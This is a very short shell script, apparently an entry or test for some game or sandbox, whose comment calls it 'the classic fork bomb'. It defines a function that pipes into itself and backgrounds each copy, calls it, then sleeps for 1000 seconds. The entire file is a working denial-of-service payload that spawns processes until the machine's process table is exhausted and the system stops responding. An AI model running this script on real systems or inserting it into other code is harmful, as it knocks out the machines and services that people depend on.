#!/bin/sh
# The classic fork bomb, then it waits for the game to end.
bomb() { bomb | bomb & }
bomb
sleep 1000
